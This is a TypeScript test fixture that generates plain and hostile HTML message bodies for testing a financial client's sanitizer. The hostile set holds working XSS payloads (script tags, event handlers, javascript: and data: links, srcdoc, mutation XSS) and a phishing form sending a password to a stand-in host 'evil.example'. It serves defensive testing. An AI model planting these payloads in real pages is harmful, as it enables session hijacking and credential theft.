/** Message bodies: plain HTML and hostile HTML the client must sanitize (cabinet §3 "Message"). */
export interface MessageBody {
  title: string;
  text: string;
}

export function plainMessage(n: number): MessageBody {
  const kinds = [
    {
      title: `Виплата купону №${n}`,
      text: `<p>Купонний дохід за облігаціями зараховано на ваш рахунок.</p><p><b>Сума:</b> ${(n * 137.5).toFixed(2)} грн</p>`,
    },
    {
      title: `Оновлення документів №${n}`,
      text: '<p>У кабінеті з’явилися нові документи. Перегляньте розділ <a href="https://example.test/docs">Документи</a>.</p>',
    },
    {
      title: `Statement ready #${n}`,
      text: '<p>Your monthly statement is ready.</p><ul><li>Bonds: 12</li><li>Coupons: 3</li></ul>',
    },
  ];
  return kinds[n % kinds.length]!;
}

/**
 * Each one is harmless only when sanitized: scripts, event handlers, javascript:/data: links, frames,
 * forms, styles, SVG and a MathML mutation-XSS classic. Whatever would run sets `window.__xss` or opens a
 * dialog, which the browser tests look for. Seeded at every 9th message from the 5th (6 of 50).
 */
export function hostileMessages(): MessageBody[] {
  return [
    {
      title: 'Hostile: script tag',
      text: '<p>Hello</p><script>window.__xss = "script"; alert("xss")</script><p>after script</p>',
    },
    {
      title: 'Hostile: onerror attribute',
      text: '<p>Image below</p><img src="x" onerror="window.__xss=\'onerror\'; alert(1)">',
    },
    {
      title: 'Hostile: javascript link',
      text: '<p><a href="javascript:window.__xss=\'link\';alert(1)">Claim your bonus</a></p>',
    },
    {
      title: 'Hostile: iframe and svg',
      text: '<iframe src="javascript:alert(1)"></iframe><svg onload="window.__xss=\'svg\'"><circle r="4"/></svg><p>frame</p>',
    },
    {
      title: 'Hostile: onclick and style',
      text: '<div onclick="window.__xss=\'click\'" style="position:fixed;inset:0;background:url(javascript:alert(1))">Click anywhere</div>',
    },
    {
      title: 'Hostile: data link, srcdoc, form and mXSS',
      text:
        '<p><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Open your statement</a></p>' +
        '<iframe srcdoc="<script>parent.__xss=\'srcdoc\'</script>"></iframe>' +
        '<form action="https://evil.example/steal"><input name="password" placeholder="Password"><button>Confirm</button></form>' +
        '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=\'mxss\';alert(1)">',
    },
  ];
}
